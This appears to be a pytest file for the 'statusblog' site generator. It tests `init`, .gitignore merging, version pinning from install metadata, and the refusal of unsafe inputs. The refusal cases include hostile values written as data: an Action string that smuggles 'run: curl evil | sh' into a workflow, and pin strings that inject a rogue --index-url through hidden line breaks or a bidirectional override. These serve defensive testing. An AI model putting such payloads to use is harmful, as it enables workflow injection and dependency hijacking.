"""`statusblog init`: the files a new site starts with, byte for byte, what it keeps of a repository it
moves into, what it refuses, and the pin it writes for statusblog itself."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from generator import __version__
from generator.authoring.errors import AuthoringError
from generator.authoring.installed import installed_action, installed_origin, site_pin
from generator.core.problems import display_path
from tests.conftest import REPO
from tests.sites import run

GOLDEN = REPO / "tests" / "golden" / "init"
#: Pins the versions statusblog is installed with: tests/test_packaging.py holds it to requirements.lock.
INSTALLED_VERSIONS = "requirements.txt"
PIN = f"statusblog=={__version__}"
COMMIT = "3f2a9c1d8e07b6a5f4e3d2c1b0a99887766554433"[:40]
AUTHOR = ("--name", "Alice Nguyen", "--email", "alice@example.com")


def files(root: Path) -> dict[str, bytes]:
    return {path.relative_to(root).as_posix(): path.read_bytes()
            for path in sorted(root.rglob("*")) if path.is_file() and path.name != INSTALLED_VERSIONS}


@pytest.mark.parametrize("variant, options", [("pip", []), ("action", ["--action", f"harbor/statusblog@{COMMIT}"])])
def test_init_writes_the_golden_site(tmp_path: Path, variant: str, options: list[str]) -> None:
    """Regenerate after an intended change with: UPDATE_GOLDEN=1 pytest tests/test_init.py"""
    site = tmp_path / "harbor-status"
    result = run("init", str(site), *AUTHOR, "--timezone", "America/Chicago", "--now", "2026-03-20T08:00:00Z",
                 "--pin", PIN, *options)
    assert result.exit_code == 0, result.output
    assert (site / INSTALLED_VERSIONS).read_text(encoding="utf-8").splitlines()[3] == PIN
    golden = GOLDEN / variant
    if os.environ.get("UPDATE_GOLDEN") == "1":
        shutil.rmtree(golden, ignore_errors=True)
        shutil.copytree(site, golden, ignore=shutil.ignore_patterns(INSTALLED_VERSIONS))
    assert files(site) == files(golden)


@pytest.mark.parametrize("action", [
    "harbor/statusblog", "harbor@v1", "harbor/statusblog@v1\n    run: curl evil | sh",
    "harbor/statusblog@${{ secrets.TOKEN }}", "harbor/statusblog@v1 # comment", "../x/y@v1",
    # A tag or a branch: either can move after the site's workflow was reviewed.
    "harbor/statusblog@v0.1.0", "harbor/statusblog@main", f"harbor/statusblog@{COMMIT[:12]}",
    f"harbor/statusblog@{COMMIT.upper()}",
])
def test_init_refuses_an_action_that_is_not_owner_repo_at_a_full_commit(tmp_path: Path, action: str) -> None:
    result = run("init", str(tmp_path / "site"), *AUTHOR, "--pin", PIN, "--action", action)
    assert result.exit_code == 1
    assert "is not OWNER/REPO@COMMIT with a full commit id" in result.output
    assert not (tmp_path / "site").exists(), "nothing is written"


def test_init_moves_into_a_repository_and_keeps_its_readme_license_and_gitignore(tmp_path: Path) -> None:
    """GitHub's "Initialize with README", a licence and a Python .gitignore: all kept, the site added."""
    repo = tmp_path / "status"
    (repo / ".git").mkdir(parents=True)
    kept = {"README.md": "# Our status page\n", "LICENSE": "MIT License\n"}
    for name, text in kept.items():
        (repo / name).write_text(text, encoding="utf-8")
    (repo / ".gitignore").write_text("__pycache__/\n/public/", encoding="utf-8")
    result = run("init", str(repo), *AUTHOR, "--pin", PIN)
    assert result.exit_code == 0, result.output
    assert {name: (repo / name).read_text(encoding="utf-8") for name in kept} == kept
    assert (repo / ".gitignore").read_text(encoding="utf-8") == "__pycache__/\n/public/\n# statusblog\n.statusblog-cache/\n"
    assert (repo / "site.toml").is_file() and (repo / ".github" / "workflows" / "statusblog.yml").is_file()
    assert f"updated {display_path(repo / '.gitignore')}\n" in result.output
    assert f"created {display_path(repo / 'site.toml')}\n" in result.output


def test_init_refuses_to_overwrite_a_file_it_would_write_and_writes_nothing(tmp_path: Path) -> None:
    repo = tmp_path / "status"
    (repo / ".github" / "workflows").mkdir(parents=True)
    (repo / ".github" / "workflows" / "statusblog.yml").write_text("name: ours\n", encoding="utf-8")
    (repo / "site.toml").write_text("title = 'ours'\n", encoding="utf-8")
    result = run("init", str(repo), *AUTHOR, "--pin", PIN)
    assert result.exit_code == 1
    assert "already has .github/workflows/statusblog.yml, site.toml; init adds a site beside" in result.output
    assert sorted(path.relative_to(repo).as_posix() for path in repo.rglob("*") if path.is_file()) == [
        ".github/workflows/statusblog.yml", "site.toml"]
    assert (repo / "site.toml").read_text(encoding="utf-8") == "title = 'ours'\n"


def test_a_gitignore_that_has_every_line_already_is_left_as_it_is(tmp_path: Path) -> None:
    repo = tmp_path / "status"
    repo.mkdir()
    (repo / ".gitignore").write_text("# ours\n/public/\n.statusblog-cache/\n", encoding="utf-8")
    result = run("init", str(repo), *AUTHOR, "--pin", PIN)
    assert result.exit_code == 0
    assert (repo / ".gitignore").read_text(encoding="utf-8") == "# ours\n/public/\n.statusblog-cache/\n"
    assert ".gitignore" not in result.output


# The pin: statusblog as it was installed, read from its direct_url.json (PEP 610).

def fake_install(root: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict | None) -> None:
    """A statusblog distribution's metadata, first on sys.path, as an installer leaves it."""
    info = root / f"statusblog-{__version__}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: statusblog\nVersion: {__version__}\n",
                                   encoding="utf-8")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url), encoding="utf-8")
    monkeypatch.syspath_prepend(str(root))


def test_from_an_index_the_pin_is_the_version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake_install(tmp_path, monkeypatch, None)
    assert site_pin(None) == PIN
    assert installed_origin().where == "a package index"
    with pytest.raises(AuthoringError, match="names no Action to run; write --action OWNER/REPO@COMMIT"):
        installed_action()


def test_from_git_the_pin_is_the_url_at_the_full_commit_and_the_action_is_that_repository(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake_install(tmp_path, monkeypatch, {"url": "https://github.com/harbor/statusblog.git",
                                         "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "v1"}})
    assert site_pin(None) == f"statusblog @ git+https://github.com/harbor/statusblog.git@{COMMIT}"
    assert installed_action() == f"harbor/statusblog@{COMMIT}"
    result = run("init", str(tmp_path / "site"), *AUTHOR, "--action")
    assert result.exit_code == 0, result.output
    workflow = (tmp_path / "site" / ".github" / "workflows" / "statusblog.yml").read_text(encoding="utf-8")
    assert f"uses: harbor/statusblog@{COMMIT}\n" in workflow
    assert f"\nstatusblog @ git+https://github.com/harbor/statusblog.git@{COMMIT}\n" in (
        tmp_path / "site" / INSTALLED_VERSIONS).read_text(encoding="utf-8")
    assert run("--version").output == (f"statusblog, version {__version__}, installed from "
                                       f"git+https://github.com/harbor/statusblog.git at {COMMIT}\n")


@pytest.mark.parametrize("direct_url, where", [
    ({"url": "file:///home/alice/statusblog", "dir_info": {"editable": True}}, "the editable install of /home/alice/statusblog"),
    ({"url": "file:///home/alice/statusblog", "dir_info": {}}, "the folder /home/alice/statusblog"),
    ({"url": "file:///tmp/statusblog-0.1.0-py3-none-any.whl", "archive_info": {}}, "file:///tmp/statusblog-0.1.0-py3-none-any.whl"),
    # A token in the URL would be published in the site's repository.
    ({"url": "https://ci:s3cret@git.example.com/statusblog.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
     f"git+https://ci:***@git.example.com/statusblog.git at {COMMIT}"),
])
def test_from_this_disk_no_pin_is_written_and_the_refusal_says_how_to_install(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict, where: str) -> None:
    fake_install(tmp_path, monkeypatch, direct_url)
    result = run("requirements")
    assert result.exit_code == 1
    assert f"statusblog {__version__} was installed from {where}, which no other machine can install from" in result.output
    assert "pip install 'git+https://github.com/OWNER/REPO@COMMIT'), or pass --pin REQUIREMENT" in result.output
    assert result.stdout == "", "nothing half-written to a redirected requirements.txt"
    assert run("init", str(tmp_path / "site"), *AUTHOR).exit_code == 1
    assert not (tmp_path / "site").exists()
    assert run("requirements", "--pin", PIN).stdout.splitlines()[3] == PIN


@pytest.mark.parametrize("pin", [
    "statusblog", "statusblog>=0.1", "other==0.1.0", f"{PIN}\n--index-url https://evil.example/simple",
    f"{PIN} ; python_version > '3'", "statusblog @ file:///home/alice/statusblog",
    "statusblog @ git+https://github.com/harbor/statusblog@v1 --hash=x",
    f"statusblog @ git+https://github.com/harbor/statusblog@{COMMIT}\u2028--index-url=https://evil.example",
    f"statusblog @ git+https://github.com/harbor/stat\u202eusblog@{COMMIT}",
])
def test_a_pin_that_is_not_one_line_naming_statusblog_is_refused(pin: str) -> None:
    result = run("requirements", "--pin", pin)
    assert result.exit_code == 1
    assert "--pin: " in result.output and "is not a requirement for statusblog" in result.output
